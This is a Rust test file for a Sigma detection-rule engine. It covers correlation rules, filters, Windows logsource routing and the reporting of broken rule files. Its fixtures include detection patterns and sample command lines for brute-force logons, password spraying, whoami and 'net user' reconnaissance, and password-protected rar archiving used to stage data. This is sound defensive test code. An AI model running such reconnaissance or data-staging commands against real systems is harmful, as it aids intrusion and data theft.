fn correlate(rules: &RuleSet, events: &[WinEvent]) -> (Vec<Detection>, Vec<Detection>) {
    let mut direct = Vec::new();
    let mut held: Vec<CorrelationInput> = events
        .iter()
        .filter_map(|e| rules.evaluate(e, &mut direct))
        .collect();
    held.sort_by_key(|i| i.event.timestamp);
    let mut correlator = rules.correlator();
    let mut out = Vec::new();
    for input in held {
        correlator.feed(input, &mut out);
    }
    (direct, out)
}

fn titles(detections: &[Detection]) -> Vec<&str> {
    detections.iter().map(|d| d.rule.title.as_str()).collect()
}

/// The detections of correlation rules only.
fn correlations(detections: &[Detection]) -> Vec<&Detection> {
    detections
        .iter()
        .filter(|d| d.rule.kind == RuleKind::Correlation)
        .collect()
}

const FAILED_LOGON: &str = "
title: Failed logon
id: 5638f7c0-ac70-491d-8465-2a65075e0d86
name: failed_logon
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection
level: low
";

fn failed_logon(secs: i64, user: &str, ip: &str) -> WinEvent {
    record(
        SECURITY,
        SECURITY_PROVIDER,
        4625,
        secs,
        json!({"TargetUserName": user, "IpAddress": ip}),
    )
}

fn brute_force(rules_ref: &str, extra: &str) -> String {
    format!(
        "{FAILED_LOGON}---
title: Brute force
id: 0e95725d-7320-415d-80f7-004da920fc11
correlation:
    type: event_count
    rules:
        - {rules_ref}
    group-by:
        - TargetUserName
    timespan: 5m
    condition:
        gte: 3
{extra}level: high
"
    )
}

#[test]
fn event_count_fires_at_threshold_within_timespan() {
    let rules = load(&brute_force("5638f7c0-ac70-491d-8465-2a65075e0d86", ""));
    assert!(rules.has_correlations());
    // Out of order on purpose: the caller sorts held records by time.
    let events = [
        failed_logon(120, "bob", "10.0.0.1"),
        failed_logon(0, "bob", "10.0.0.1"),
        failed_logon(60, "bob", "10.0.0.1"),
    ];
    let (direct, out) = correlate(&rules, &events);
    assert!(
        direct.is_empty(),
        "held back, not direct: {:?}",
        titles(&direct)
    );
    let fired = correlations(&out);
    assert_eq!(fired.len(), 1, "{:?}", titles(&out));
    let d = fired[0];
    assert_eq!(d.rule.title, "Brute force");
    assert_eq!(
        d.rule.id.as_deref(),
        Some("0e95725d-7320-415d-80f7-004da920fc11")
    );
    assert_eq!(d.rule.level, rampart_sigma::Level::High);
    assert_eq!(
        d.timestamp.timestamp(),
        T0 + 120,
        "fires on the third record"
    );
    assert!(
        d.matched
            .contains(&("TargetUserName".to_string(), Value::String("bob".into()))),
        "{:?}",
        d.matched
    );
}

#[test]
fn event_count_not_when_spread_beyond_timespan_or_split_by_group() {
    let rules = load(&brute_force("5638f7c0-ac70-491d-8465-2a65075e0d86", ""));
    // Three for bob, but never three within five minutes.
    let spread = [
        failed_logon(0, "bob", "10.0.0.1"),
        failed_logon(240, "bob", "10.0.0.1"),
        failed_logon(540, "bob", "10.0.0.1"),
    ];
    let (direct, out) = correlate(&rules, &spread);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    assert!(correlations(&out).is_empty(), "{:?}", titles(&out));
    // Three within a minute, but for two users.
    let split = [
        failed_logon(0, "bob", "10.0.0.1"),
        failed_logon(10, "alice", "10.0.0.1"),
        failed_logon(20, "bob", "10.0.0.1"),
    ];
    let (_, out) = correlate(&rules, &split);
    assert!(correlations(&out).is_empty(), "{:?}", titles(&out));
    // Fewer than the threshold.
    let (_, out) = correlate(&rules, &split[..2]);
    assert!(correlations(&out).is_empty());
}

/// The correlation spec: `generate` "defines if the rules referred from the correlation rule
/// should be converted as stand-alone rules or if only the correlation query should be
/// generated (default)". Without `generate: true`, a base rule raises no alert of its own.
#[test]
fn base_rules_of_a_correlation_do_not_alert_by_id_reference() {
    let rules = load(&brute_force("5638f7c0-ac70-491d-8465-2a65075e0d86", ""));
    let events: Vec<WinEvent> = (0..3).map(|i| failed_logon(i, "bob", "1.1.1.1")).collect();
    let (direct, out) = correlate(&rules, &events);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    assert_eq!(titles(&out), ["Brute force"], "no 'Failed logon' alerts");
}

/// Sigma 2 correlations usually refer to their rules by `name` (the spec's own examples do),
/// while the rules also carry an `id`. The base rule must stay silent then too.
#[test]
fn base_rules_of_a_correlation_do_not_alert_by_name_reference() {
    let rules = load(&brute_force("failed_logon", ""));
    let events: Vec<WinEvent> = (0..3).map(|i| failed_logon(i, "bob", "1.1.1.1")).collect();
    let (direct, out) = correlate(&rules, &events);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    assert_eq!(titles(&out), ["Brute force"], "no 'Failed logon' alerts");
}

#[test]
fn correlation_by_name_reference_fires() {
    let rules = load(&brute_force("failed_logon", ""));
    let events: Vec<WinEvent> = (0..3).map(|i| failed_logon(i, "bob", "1.1.1.1")).collect();
    let (direct, out) = correlate(&rules, &events);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    let fired: Vec<&str> = correlations(&out)
        .iter()
        .map(|d| d.rule.title.as_str())
        .collect();
    assert_eq!(fired, ["Brute force"]);
    let (_, out) = correlate(&rules, &events[..2]);
    assert!(correlations(&out).is_empty());
}

/// `id` is optional and `name` is what correlations refer to, so a base rule may have only a
/// `name`.
#[test]
fn correlation_by_name_to_a_rule_without_id_fires() {
    let yaml =
        brute_force("failed_logon", "").replace("id: 5638f7c0-ac70-491d-8465-2a65075e0d86\n", "");
    assert!(!yaml.contains("5638f7c0"));
    let rules = load(&yaml);
    let events: Vec<WinEvent> = (0..3).map(|i| failed_logon(i, "bob", "1.1.1.1")).collect();
    let (direct, out) = correlate(&rules, &events);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    let fired: Vec<&str> = correlations(&out)
        .iter()
        .map(|d| d.rule.title.as_str())
        .collect();
    assert_eq!(fired, ["Brute force"]);
}

#[test]
fn generate_true_lets_base_rules_alert() {
    let rules = load(&brute_force(
        "5638f7c0-ac70-491d-8465-2a65075e0d86",
        "generate: true\n",
    ));
    let events: Vec<WinEvent> = (0..3).map(|i| failed_logon(i, "bob", "1.1.1.1")).collect();
    let (direct, out) = correlate(&rules, &events);
    let mut all = titles(&direct);
    all.extend(titles(&out));
    assert_eq!(
        all.iter().filter(|t| **t == "Failed logon").count(),
        3,
        "{all:?}"
    );
    assert_eq!(all.iter().filter(|t| **t == "Brute force").count(), 1);
}

#[test]
fn value_count_counts_distinct_values() {
    let yaml = format!(
        "{FAILED_LOGON}---
title: Password spray
correlation:
    type: value_count
    rules:
        - failed_logon
    group-by:
        - IpAddress
    timespan: 10m
    condition:
        field: TargetUserName
        gte: 3
"
    );
    let rules = load(&yaml);
    let distinct = [
        failed_logon(0, "alice", "10.0.0.9"),
        failed_logon(30, "bob", "10.0.0.9"),
        failed_logon(60, "carol", "10.0.0.9"),
    ];
    let (_, out) = correlate(&rules, &distinct);
    assert_eq!(
        out.iter()
            .filter(|d| d.rule.title == "Password spray")
            .count(),
        1,
        "{:?}",
        titles(&out)
    );
    // Many records, two distinct users.
    let repeated = [
        failed_logon(0, "alice", "10.0.0.9"),
        failed_logon(10, "alice", "10.0.0.9"),
        failed_logon(20, "bob", "10.0.0.9"),
        failed_logon(30, "ALICE", "10.0.0.8"),
        failed_logon(40, "alice", "10.0.0.9"),
    ];
    let (_, out) = correlate(&rules, &repeated);
    assert!(
        !titles(&out).contains(&"Password spray"),
        "{:?}",
        titles(&out)
    );
    // Three distinct users, but from three addresses.
    let split = [
        failed_logon(0, "alice", "10.0.0.1"),
        failed_logon(10, "bob", "10.0.0.2"),
        failed_logon(20, "carol", "10.0.0.3"),
    ];
    let (_, out) = correlate(&rules, &split);
    assert!(!titles(&out).contains(&"Password spray"));
}

const RECON: &str = "
title: Whoami
id: 11111111-1111-4111-8111-111111111111
name: recon_whoami
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\whoami.exe'
    condition: selection
---
title: Net user
id: 22222222-2222-4222-8222-222222222222
name: recon_net_user
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'net user'
    condition: selection
";

fn temporal(kind: &str, condition: &str) -> String {
    format!(
        "{RECON}---
title: Recon burst
correlation:
    type: {kind}
    rules:
        - recon_whoami
        - recon_net_user
    group-by:
        - Computer
    timespan: 5m
{}",
        reindent(condition, 4)
    )
}

fn whoami_at(secs: i64) -> WinEvent {
    record(
        SYSMON,
        SYSMON_PROVIDER,
        1,
        secs,
        data(&[
            ("Image", r"C:\Windows\System32\whoami.exe"),
            ("CommandLine", "whoami"),
        ]),
    )
}

fn net_user_at(secs: i64) -> WinEvent {
    record(
        SYSMON,
        SYSMON_PROVIDER,
        1,
        secs,
        data(&[
            ("Image", r"C:\Windows\System32\net.exe"),
            ("CommandLine", "net user bob"),
        ]),
    )
}

fn fires_correlation(rules: &RuleSet, events: &[WinEvent]) -> bool {
    let (direct, out) = correlate(rules, events);
    assert!(direct.is_empty(), "{:?}", titles(&direct));
    out.iter().any(|d| d.rule.title == "Recon burst")
}

#[test]
fn temporal_any_order_within_timespan() {
    let rules = load(&temporal("temporal", "condition:\n    gte: 2"));
    assert!(fires_correlation(&rules, &[whoami_at(0), net_user_at(60)]));
    assert!(fires_correlation(&rules, &[net_user_at(0), whoami_at(60)]));
    assert!(!fires_correlation(
        &rules,
        &[whoami_at(0), net_user_at(600)]
    ));
    assert!(!fires_correlation(&rules, &[whoami_at(0), whoami_at(60)]));
    assert!(!fires_correlation(&rules, &[whoami_at(0)]));
}

/// The spec's temporal example has no `condition`: "All events defined by the rules referred
/// by the rule field must occur in the time frame defined by timespan."
#[test]
fn temporal_without_condition_needs_every_rule() {
    let rules = load(&temporal("temporal", ""));
    assert!(fires_correlation(&rules, &[net_user_at(0), whoami_at(60)]));
    assert!(!fires_correlation(&rules, &[whoami_at(0)]));
    assert!(!fires_correlation(
        &rules,
        &[whoami_at(0), net_user_at(600)]
    ));
}

#[test]
fn temporal_ordered_only_in_rule_order() {
    for condition in ["", "condition:\n    gte: 2"] {
        let rules = load(&temporal("temporal_ordered", condition));
        assert!(fires_correlation(&rules, &[whoami_at(0), net_user_at(60)]));
        // Input order does not matter, record time does.
        assert!(fires_correlation(&rules, &[net_user_at(60), whoami_at(0)]));
        assert!(!fires_correlation(&rules, &[net_user_at(0), whoami_at(60)]));
        assert!(!fires_correlation(
            &rules,
            &[whoami_at(0), net_user_at(600)]
        ));
        assert!(!fires_correlation(&rules, &[whoami_at(0)]));
    }
}

#[test]
fn correlation_referring_to_a_missing_rule_is_not_loaded() {
    let yaml = "
title: Orphan
correlation:
    type: event_count
    rules:
        - no_such_rule
    group-by:
        - Computer
    timespan: 5m
    condition:
        gte: 2
";
    let rules = RuleSet::from_yaml(yaml, Path::new("spec.yml"));
    assert_eq!(rules.report.len(), 1);
    assert!(
        matches!(&rules.report[0].status, RuleStatus::Inactive(r) if r.contains("no_such_rule")),
        "{:?}",
        rules.report[0].status
    );
    assert!(!rules.has_correlations());
}

// ---------------------------------------------------------------------------------------------
// 5. Filters
// ---------------------------------------------------------------------------------------------

const RAR: &str = "
title: Data compressed with rar
id: 6f3e2987-db24-4c78-a860-b4f4095a7095
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\rar.exe'
    condition: selection
---
title: Other rar rule
id: 7f3e2987-db24-4c78-a860-b4f4095a7096
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: ' a -hp'
    condition: selection
";

fn rar(user: &str) -> WinEvent {
    proc(&[
        ("Image", r"C:\Program Files\WinRAR\rar.exe"),
        ("CommandLine", "rar a -hpsecret out.rar docs"),
        ("User", user),
    ])
}

fn filter_doc(logsource: &str, rule_ref: &str) -> String {
    format!(
        "---
title: Filter administrator accounts
id: 1e2f3a4b-0000-4000-8000-000000000001
logsource:
{}filter:
    rules:
        - {rule_ref}
    selection:
        User|startswith: 'CORP\\adm_'
    condition: not selection
",
        reindent(logsource, 4)
    )
}

#[test]
fn filter_suppresses_matches_of_the_rules_it_names() {
    let rules = load(&format!(
        "{RAR}{}",
        filter_doc(PROC, "6f3e2987-db24-4c78-a860-b4f4095a7095")
    ));
    assert!(
        rules
            .report
            .iter()
            .any(|r| r.kind == Some(RuleKind::Filter))
    );
    let mut bob = fired(&rules, &rar(r"CORP\bob"));
    bob.sort();
    assert_eq!(bob, ["Data compressed with rar", "Other rar rule"]);
    // Suppressed for the named rule only.
    assert_eq!(fired(&rules, &rar(r"CORP\adm_bob")), ["Other rar rule"]);
}

#[test]
fn filter_with_another_logsource_does_not_apply() {
    let rules = load(&format!(
        "{RAR}{}",
        filter_doc(NET, "6f3e2987-db24-4c78-a860-b4f4095a7095")
    ));
    let mut adm = fired(&rules, &rar(r"CORP\adm_bob"));
    adm.sort();
    assert_eq!(adm, ["Data compressed with rar", "Other rar rule"]);
}

// ---------------------------------------------------------------------------------------------
// 6. Logsource routing
// ---------------------------------------------------------------------------------------------

#[test]
fn process_creation_reads_sysmon_1_and_security_4688_not_sysmon_3() {
    let rules = load(&rule_doc(
        "Whoami high integrity",
        PROC,
        r"
        selection:
            Image|endswith: '\whoami.exe'
            ParentImage|endswith: '\cmd.exe'
            IntegrityLevel: High
        condition: selection
        ",
    ));
    let sysmon1 = proc(&[
        ("Image", r"C:\Windows\System32\whoami.exe"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
        ("IntegrityLevel", "High"),
    ]);
    let sec4688 = security(
        4688,
        &[
            ("NewProcessName", r"C:\Windows\System32\whoami.exe"),
            ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
            ("MandatoryLabel", "S-1-16-12288"),
            ("NewProcessId", "0x1a4"),
            ("ProcessId", "0x10"),
        ],
    );
    let sec4688_medium = security(
        4688,
        &[
            ("NewProcessName", r"C:\Windows\System32\whoami.exe"),
            ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
            ("MandatoryLabel", "S-1-16-8192"),
        ],
    );
    let sysmon3 = record(
        SYSMON,
        SYSMON_PROVIDER,
        3,
        0,
        data(&[
            ("Image", r"C:\Windows\System32\whoami.exe"),
            ("ParentImage", r"C:\Windows\System32\cmd.exe"),
            ("IntegrityLevel", "High"),
        ]),
    );
    // Same fields, but a Security record that is not a process creation.
    let sec4689 = security(
        4624,
        &[
            ("Image", r"C:\Windows\System32\whoami.exe"),
            ("ParentImage", r"C:\Windows\System32\cmd.exe"),
            ("IntegrityLevel", "High"),
        ],
    );
    assert_eq!(fired(&rules, &sysmon1), ["Whoami high integrity"]);
    assert_eq!(fired(&rules, &sec4688), ["Whoami high integrity"]);
    assert!(fired(&rules, &sec4688_medium).is_empty());
    assert!(fired(&rules, &sysmon3).is_empty());
    assert!(fired(&rules, &sec4689).is_empty());
    let route = rules.report[0].route.as_deref();
    assert_eq!(route, Some("category:process_creation"));
}

#[test]
fn security_4688_process_id_is_the_new_process() {
    check(
        "
        selection:
            ProcessId: 420
            ParentProcessId: 16
        condition: selection
        ",
        &[security(
            4688,
            &[
                ("NewProcessName", "x.exe"),
                ("NewProcessId", "0x1a4"),
                ("ProcessId", "0x10"),
            ],
        )],
        &[security(
            4688,
            &[
                ("NewProcessName", "x.exe"),
                ("NewProcessId", "0x10"),
                ("ProcessId", "0x1a4"),
            ],
        )],
    );
}

#[test]
fn service_security_reads_only_the_security_channel() {
    let detection = "
        selection:
            EventID: 4625
            TargetUserName: 'bob'
        condition: selection
        ";
    let on_security = security(4625, &[("TargetUserName", "bob")]);
    let on_sysmon = record(
        SYSMON,
        SYSMON_PROVIDER,
        4625,
        0,
        data(&[("TargetUserName", "bob")]),
    );
    let on_system = record("System", "x", 4625, 0, data(&[("TargetUserName", "bob")]));
    let ls = "product: windows\nservice: security";
    assert_eq!(fired_by(ls, detection, &on_security), ["T"]);
    assert!(fired_by(ls, detection, &on_sysmon).is_empty());
    assert!(fired_by(ls, detection, &on_system).is_empty());
    // And a Sysmon process creation with matching fields is not Security either.
    let proc_rule = "
        selection:
            Image|endswith: '\\whoami.exe'
        condition: selection
        ";
    assert!(
        fired_by(
            ls,
            proc_rule,
            &proc(&[("Image", r"C:\Windows\System32\whoami.exe")])
        )
        .is_empty()
    );
}

#[test]
fn product_windows_alone_reads_every_channel() {
    let detection = "
        selection:
            TargetUserName: 'bob'
        condition: selection
        ";
    let ls = "product: windows";
    for channel in [SECURITY, SYSMON, "System", "Application"] {
        let e = record(channel, "x", 7, 0, data(&[("TargetUserName", "bob")]));
        assert_eq!(fired_by(ls, detection, &e), ["T"], "{channel}");
    }
}

#[test]
fn unread_and_unknown_logsources_are_inactive() {
    for (logsource, word) in [
        ("product: macos\ncategory: process_creation", "macos"),
        ("product: linux\nservice: auditd", "auditd"),
        ("product: linux\ncategory: registry_set", "registry_set"),
        ("product: windows\ncategory: webserver", "webserver"),
        (
            "product: windows\nservice: no-such-service",
            "no-such-service",
        ),
    ] {
        let yaml = rule_doc(
            "Elsewhere",
            logsource,
            "
            selection:
                Image|endswith: '/bin/sh'
            condition: selection
            ",
        );
        let rules = RuleSet::from_yaml(&yaml, Path::new("x.yml"));
        assert_eq!(rules.report.len(), 1);
        match &rules.report[0].status {
            RuleStatus::Inactive(reason) => assert!(reason.contains(word), "{reason}"),
            other => panic!("{logsource}: {other:?}"),
        }
        assert_eq!(rules.active_rules(), 0);
        assert!(fired(&rules, &proc(&[("Image", "/bin/sh")])).is_empty());
    }
}

// ---------------------------------------------------------------------------------------------
// 7. Rules that cannot load
// ---------------------------------------------------------------------------------------------

/// A fresh folder under the system temp dir, removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> TempDir {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let dir = std::env::temp_dir().join(format!(
            "rampart-sigma-spec-{tag}-{}-{nanos}",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.0.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn failure_reason(rules: &RuleSet, path: &Path) -> String {
    let lines: Vec<_> = rules.report.iter().filter(|r| r.path == path).collect();
    assert!(!lines.is_empty(), "{} is not reported", path.display());
    let reasons: Vec<&str> = lines
        .iter()
        .filter_map(|r| match &r.status {
            RuleStatus::Failed(reason) => Some(reason.as_str()),
            _ => None,
        })
        .collect();
    assert!(
        !reasons.is_empty(),
        "{} should be Failed: {:?}",
        path.display(),
        lines
    );
    for r in &reasons {
        assert!(
            !r.trim().is_empty(),
            "{} failed without a reason",
            path.display()
        );
    }
    reasons.join("; ")
}

const GOOD: &str = r"
title: Good rule
id: 33333333-3333-4333-8333-333333333333
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\whoami.exe'
    condition: selection
";

fn bad_rule(detection: &str) -> String {
    rule_doc("Bad rule", PROC, detection)
}

#[test]
fn bad_rules_are_reported_and_good_ones_still_load() {
    let dir = TempDir::new("bad");
    let good = dir.write("good.yml", GOOD);
    let cases = [
        (
            "malformed.yml",
            "title: Broken\nlogsource: [product: windows\ndetection:\n  x: 'y\n".to_string(),
        ),
        (
            "no_detection.yml",
            "title: No detection\nlogsource:\n    product: windows\n    category: process_creation\n"
                .to_string(),
        ),
        (
            "unknown_modifier.yml",
            bad_rule(
                "
                selection:
                    CommandLine|nosuchmodifier: 'x'
                condition: selection
                ",
            ),
        ),
        (
            "missing_selection.yml",
            bad_rule(
                "
                selection:
                    CommandLine|contains: 'x'
                condition: selection and not filter_missing
                ",
            ),
        ),
        (
            "bad_regex.yml",
            bad_rule(
                "
                selection:
                    CommandLine|re: '(unclosed[group'
                condition: selection
                ",
            ),
        ),
    ];
    let paths: Vec<(PathBuf, &str)> = cases
        .iter()
        .map(|(name, text)| (dir.write(name, text), *name))
        .collect();

    let rules = RuleSet::load(std::slice::from_ref(&dir.0));
    for (path, name) in &paths {
        let reason = failure_reason(&rules, path);
        eprintln!("{name}: {reason}");
    }
    let good_line = rules
        .report
        .iter()
        .find(|r| r.path == good)
        .expect("good rule reported");
    assert_eq!(good_line.status, RuleStatus::Loaded);
    assert_eq!(
        fired(
            &rules,
            &proc(&[("Image", r"C:\Windows\System32\whoami.exe")])
        ),
        ["Good rule"]
    );
    assert_eq!(rules.active_rules(), 1);
}

#[test]
fn each_bad_document_fails_alone_in_a_multi_document_file() {
    // One bad document does not take the good one beside it down.
    let yaml = format!(
        "{GOOD}---\n{}",
        bad_rule(
            "
            selection:
                CommandLine|re: '(unclosed'
            condition: selection
            "
        )
    );
    let rules = RuleSet::from_yaml(&yaml, Path::new("two.yml"));
    assert!(
        rules
            .report
            .iter()
            .any(|r| matches!(&r.status, RuleStatus::Failed(reason) if !reason.is_empty())),
        "{:?}",
        rules.report
    );
    assert_eq!(
        fired(
            &rules,
            &proc(&[("Image", r"C:\Windows\System32\whoami.exe")])
        ),
        ["Good rule"]
    );
}

#[test]
fn oversized_rule_file_is_refused() {
    let dir = TempDir::new("big");
    let mut text = String::from(GOOD);
    text.push_str("---\n");
    let filler = "# padding padding padding padding padding padding padding padding\n";
    while (text.len() as u64) <= MAX_RULE_FILE_BYTES {
        text.push_str(filler);
    }
    let big = dir.write("big.yml", &text);
    let good = dir.write(
        "small.yml",
        &GOOD
            .replace("Good rule", "Small rule")
            .replace("33333333-3333", "44444444-4444"),
    );
    let rules = RuleSet::load(std::slice::from_ref(&dir.0));
    let reason = failure_reason(&rules, &big);
    assert!(
        reason.contains(&MAX_RULE_FILE_BYTES.to_string()),
        "{reason}"
    );
    let small = rules.report.iter().find(|r| r.path == good).unwrap();
    assert_eq!(small.status, RuleStatus::Loaded);
    assert_eq!(
        fired(
            &rules,
            &proc(&[("Image", r"C:\Windows\System32\whoami.exe")])
        ),
        ["Small rule"]
    );
}

#[test]
fn missing_path_is_reported() {
    let path = std::env::temp_dir().join("rampart-sigma-spec-no-such-folder-7c1f");
    let rules = RuleSet::load(std::slice::from_ref(&path));
    failure_reason(&rules, &path);
}
